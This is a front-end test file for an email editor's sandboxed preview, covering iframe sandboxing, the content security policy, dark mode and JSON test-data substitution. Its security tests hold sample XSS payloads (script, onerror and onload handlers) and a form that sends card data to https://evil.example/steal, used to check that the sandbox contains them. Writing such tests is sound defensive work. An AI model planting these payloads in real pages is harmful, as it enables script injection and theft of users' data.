import { screen, waitFor, within } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { EDITOR_BASE, renderEditorScreen } from '@test/render-editor-screen';
import { createDocument, createModule } from '../document/module-factories';
import type { OpenSession } from '../session';
import { DARK_MODE_MARKER, PREVIEW_POLICY } from '@/shared/email-preview/preview-document';
import { PreviewScreen } from './PreviewScreen';
import { INVALID_TEST_DATA_MESSAGE } from './test-data';
import { selectTestDataText } from './test-data-slice';

const EMAIL = '<!doctype html><html><head><title>Spring</title></head><body><p>Hello {{first_name}}!</p>{{#each items}}<li>{{name}}</li>{{/each}}</body></html>';

const session = (html = EMAIL): OpenSession => ({
  key: 'code:c1',
  title: 'Spring',
  content: { editor: 'code', document: null, html, plainText: '' },
  revision: 'r1',
  analytics: {},
  testSend: {},
});

const frame = () => screen.findByTitle('Email preview') as Promise<HTMLIFrameElement>;
const srcdoc = async () => (await frame()).getAttribute('srcdoc') ?? '';
const previewArea = () => screen.getByRole('region', { name: 'Preview area' });

async function enterTestData(user: ReturnType<typeof renderEditorScreen>['user'], json: string) {
  const field = screen.getByRole('textbox', { name: 'Test data (JSON)' });
  await user.clear(field);
  await user.click(field);
  await user.paste(json);
}

describe('the preview', () => {
  it('shows the email in an iframe whose sandbox allows nothing, with a policy of its own first', async () => {
    renderEditorScreen(PreviewScreen, session(), { subPath: '/preview' });
    expect(await screen.findByRole('dialog', { name: 'Preview' })).toBeInTheDocument();
    const iframe = await frame();
    expect(iframe.getAttribute('sandbox')).toBe('');
    const doc = await srcdoc();
    expect(doc.startsWith(`<!doctype html><meta http-equiv="Content-Security-Policy" content="${PREVIEW_POLICY}">`)).toBe(true);
    // Without test data the tags show as written.
    expect(doc).toContain('<p>Hello {{first_name}}!</p>');
  });

  it('shows a design as rendered now, not as last saved', async () => {
    const document = createDocument([createModule('text', { html: '<p>Fresh words</p>' })]);
    renderEditorScreen(PreviewScreen, { ...session(), content: { editor: 'design', document, html: '<html>stale</html>', plainText: '' } }, { subPath: '/preview' });
    await waitFor(async () => expect(await srcdoc()).toContain('Fresh words'));
    expect(await srcdoc()).not.toContain('stale');
  });

  it('switches between desktop and mobile widths', async () => {
    const { user } = renderEditorScreen(PreviewScreen, session(), { subPath: '/preview' });
    const iframe = await frame();
    expect(iframe.style.width).toBe('100%');
    expect(iframe.style.minWidth).toBe('600px');
    expect(screen.getByRole('button', { name: 'Desktop' })).toHaveAttribute('aria-pressed', 'true');

    await user.click(screen.getByRole('button', { name: 'Mobile (375 px)' }));
    expect(iframe.style.width).toBe('375px');
    expect(screen.getByRole('button', { name: 'Mobile (375 px)' })).toHaveAttribute('aria-pressed', 'true');
    expect(screen.getByRole('button', { name: 'Desktop' })).toHaveAttribute('aria-pressed', 'false');
  });

  it('previews dark mode: the email’s own dark styles where it has them, a forced inversion otherwise', async () => {
    const { user } = renderEditorScreen(PreviewScreen, session(), { subPath: '/preview' });
    expect(await srcdoc()).not.toContain(DARK_MODE_MARKER);
    await user.click(screen.getByRole('checkbox', { name: 'Dark mode' }));
    const iframe = await frame();
    expect(iframe.style.colorScheme).toBe('dark');
    const doc = await srcdoc();
    expect(doc).toContain(DARK_MODE_MARKER);
    expect(doc).toContain('filter:invert(1) hue-rotate(180deg)');
  });

  it('keeps an email’s own dark-mode styles instead of inverting it', async () => {
    const own = '<html><head><style>@media (prefers-color-scheme: dark) { body { background: #111 } }</style></head><body>Hi</body></html>';
    const { user } = renderEditorScreen(PreviewScreen, session(own), { subPath: '/preview' });
    await user.click(await screen.findByRole('checkbox', { name: 'Dark mode' }));
    const doc = await srcdoc();
    expect(doc).toContain(`<style ${DARK_MODE_MARKER}>:root{color-scheme:dark}</style>`);
    expect(doc).not.toContain('invert(1)');
  });

  it('applies the test data’s values, escaped, and keeps the test data in the session', async () => {
    const { user, store } = renderEditorScreen(PreviewScreen, session(), { subPath: '/preview/test_data' });
    await screen.findByRole('dialog', { name: 'Preview' });
    await enterTestData(user, '{"first_name": "Ana <b>", "items": [{"name": "Hat"}, {"name": "Scarf"}]}');
    await waitFor(async () => expect(await srcdoc()).toContain('<p>Hello Ana &lt;b&gt;!</p><li>Hat</li><li>Scarf</li>'));
    expect(selectTestDataText(store.getState(), 'code:c1')).toContain('"first_name"');
  });

  it('says exactly "Correct the JSON in order to see a preview." for invalid JSON, and ignores the substitutions', async () => {
    const { user } = renderEditorScreen(PreviewScreen, session(), { subPath: '/test_data' });
    await screen.findByRole('dialog', { name: 'Preview' });
    await enterTestData(user, '{"first_name": "Ana",}');
    expect(await within(previewArea()).findByText(INVALID_TEST_DATA_MESSAGE)).toBeInTheDocument();
    expect(INVALID_TEST_DATA_MESSAGE).toBe('Correct the JSON in order to see a preview.');
    expect(screen.getByRole('textbox', { name: 'Test data (JSON)' })).toHaveAccessibleDescription(expect.stringContaining('This is not valid JSON'));
    await waitFor(async () => expect(await srcdoc()).toContain('<p>Hello {{first_name}}!</p>'));

    await enterTestData(user, '["not", "an object"]');
    expect(within(previewArea()).getByText(INVALID_TEST_DATA_MESSAGE)).toBeInTheDocument();
    expect(screen.getByRole('textbox', { name: 'Test data (JSON)' })).toHaveAccessibleDescription(expect.stringContaining('must be one JSON object'));
  });

  it('says why a template cannot run with the test data, in the preview area, instead of failing', async () => {
    const { user } = renderEditorScreen(PreviewScreen, session('<p>{{shout first_name}}</p>'), { subPath: '/preview/test_data' });
    await screen.findByRole('dialog', { name: 'Preview' });
    await enterTestData(user, '{"first_name": "Ana"}');
    expect(await within(previewArea()).findByText('The test data could not be applied: Missing helper: "shout"')).toBeInTheDocument();
    expect(await srcdoc()).toContain('<p>{{shout first_name}}</p>');
  });

  it('opens and hides the test data by route, and closes back to the editor', async () => {
    const { user, router } = renderEditorScreen(PreviewScreen, session(), { subPath: '/preview' });
    expect(screen.queryByRole('textbox', { name: 'Test data (JSON)' })).toBeNull();
    await user.click(await screen.findByRole('link', { name: 'Edit test data' }));
    expect(router.state.location.pathname).toBe(`${EDITOR_BASE}/preview/test_data`);
    expect(screen.getByRole('textbox', { name: 'Test data (JSON)' })).toBeInTheDocument();
    await user.click(screen.getByRole('link', { name: 'Hide test data' }));
    expect(router.state.location.pathname).toBe(`${EDITOR_BASE}/preview`);
    await user.click(screen.getAllByRole('button', { name: 'Close' })[0]!);
    expect(router.state.location.pathname).toBe(EDITOR_BASE);
  });
});

describe('the preview’s security', () => {
  const HOSTILE = [
    '<script>parent.__previewPwned = "script"</script>',
    '<img src="x" onerror="parent.__previewPwned = \'img\'">',
    '<svg onload="parent.__previewPwned = \'svg\'"><circle r="1"/></svg>',
    '<a id="escape" href="https://evil.example/" target="_top">Win a prize</a>',
    '<form action="https://evil.example/steal"><input name="card"></form>',
  ].join('');

  it('keeps hostile HTML inside the sandboxed srcdoc: nothing of it reaches the app’s page, nothing runs', async () => {
    const { container } = renderEditorScreen(PreviewScreen, session(`<html><body>${HOSTILE}</body></html>`), { subPath: '/preview' });
    const iframe = await frame();
    // An empty sandbox: no allow-scripts, allow-same-origin, allow-top-navigation, allow-popups or allow-forms.
    expect(iframe.getAttribute('sandbox')).toBe('');
    expect(iframe.hasAttribute('src')).toBe(false);
    expect(await srcdoc()).toContain(HOSTILE);

    // The app's document (the dialog lives in document.body) holds none of the email's elements.
    for (const root of [container, document.body]) {
      expect(root.querySelector('script, img[onerror], svg[onload], a#escape, form[action^="https://evil"]')).toBeNull();
    }
    expect((window as { __previewPwned?: string }).__previewPwned).toBeUndefined();
  });

  it('puts its policy before anything of the email, even an email that tries to end the head early', async () => {
    renderEditorScreen(PreviewScreen, session('</head><meta http-equiv="Content-Security-Policy" content="default-src *"><body>x</body>'), { subPath: '/preview' });
    const doc = await srcdoc();
    expect(doc.indexOf(PREVIEW_POLICY)).toBeLessThan(doc.indexOf('default-src *'));
    expect(doc.startsWith('<meta http-equiv="Content-Security-Policy"')).toBe(true);
  });
});
